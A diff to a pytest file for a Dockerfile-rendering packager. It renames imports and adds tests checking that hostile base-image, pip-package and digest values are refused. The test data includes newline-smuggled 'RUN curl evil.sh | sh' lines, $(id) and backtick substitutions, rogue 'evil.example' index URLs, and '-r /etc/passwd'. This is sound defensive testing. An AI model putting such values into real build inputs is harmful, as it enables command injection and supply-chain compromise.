@@ -7,7 +7,9 @@ import subprocess
 
 import pytest
 
-from vertex_trainer import package as p
+from vertex_trainer import packaging as p
+from vertex_trainer.errors import UserError
+from vertex_trainer.packaging.templates import _finalize
 
 DIGEST = "sha256:" + "ab" * 32
 
@@ -21,7 +23,7 @@ def _hadolint(pk, text: str, tmp_path) -> subprocess.CompletedProcess:
 
 def test_root_dockerfile_is_the_rendered_gpu_template(pk):
     assert (pk.REPO / "Dockerfile").read_text() == p.render_dockerfile("gpu"), \
-        "regenerate with: python -m vertex_trainer.package --write-root-files"
+        "regenerate with: python -m vertex_trainer.packaging --write-root-files"
 
 
 def test_root_dockerignore_is_the_shipped_template(pk):
@@ -91,7 +93,7 @@ def test_digest_pins_the_base():
 
 def test_unpinned_base_is_refused():
     for base in ("python", "python:latest"):
-        with pytest.raises(p.UserError) as e:
+        with pytest.raises(UserError) as e:
             p.render_dockerfile("cpu", base_image=base)
         assert e.value.exit_code == 2 and "pinned" in str(e.value)
 
@@ -115,3 +117,43 @@ def test_requirements_layer_leaves_the_framework_pins_to_the_framework_layer(tmp
     (tmp_path / "requirements.txt").write_text("tf-keras==2.21.0\n")   # nothing left is fine too
     subprocess.run(["sh", "-c", filter_cmd], cwd=tmp_path, check=True)
     assert (tmp_path / "requirements-image.txt").read_text() == ""
+
+
+@pytest.mark.parametrize("field,value", [
+    ("base_image", "python:3.11\nRUN curl evil.sh | sh"),
+    ("base_image", "python:3.11 AS x\nRUN id"),
+    ("base_image", "python:`id`"),
+    ("base_image", "python:$(id)"),
+    ("base_image", 'python:3.11"'),
+    ("pip_packages", ["pandas==2.2.3\nRUN curl evil.sh | sh"]),
+    ("pip_packages", ["pandas; `id`"]),
+    ("pip_packages", ["$(curl evil.sh)"]),
+    ("pip_packages", ["--index-url=https://evil.example/simple"]),
+    ("pip_packages", ["-r /etc/passwd"]),
+    ("pip_packages", ["pandas @ https://evil.example/p.whl"]),
+    ("pip_packages", ["pandas'"]),
+    ("base_image_digest", "sha256:" + "ab" * 32 + "\nRUN id"),
+])
+def test_hostile_values_never_reach_a_rendered_dockerfile(field, value):
+    with pytest.raises(UserError) as e:
+        p.render_dockerfile("gpu", **{field: value})
+    assert e.value.exit_code == 2 and f"image.{field}" in str(e.value)
+
+
+def test_finalize_refuses_line_breaks_whatever_the_caller_forgot():
+    with pytest.raises(UserError) as e:
+        _finalize("a\nRUN id")
+    assert "line break" in str(e.value)
+
+
+def test_the_spec_accepts_exactly_the_packagers_variants_and_builders(make_spec):
+    """The spec layer checks image.variant / image.builder without importing the packager: the
+    two lists must not drift apart."""
+    from vertex_trainer.spec import images
+
+    assert set(images.VARIANTS) == set(p.VARIANTS)
+    assert set(images.BUILDERS) == set(p.BUILDERS)
+    for variant in p.VARIANTS:
+        assert make_spec(variant=variant).image.variant == variant
+    for builder in p.BUILDERS:
+        assert make_spec(builder=builder).image.builder == builder
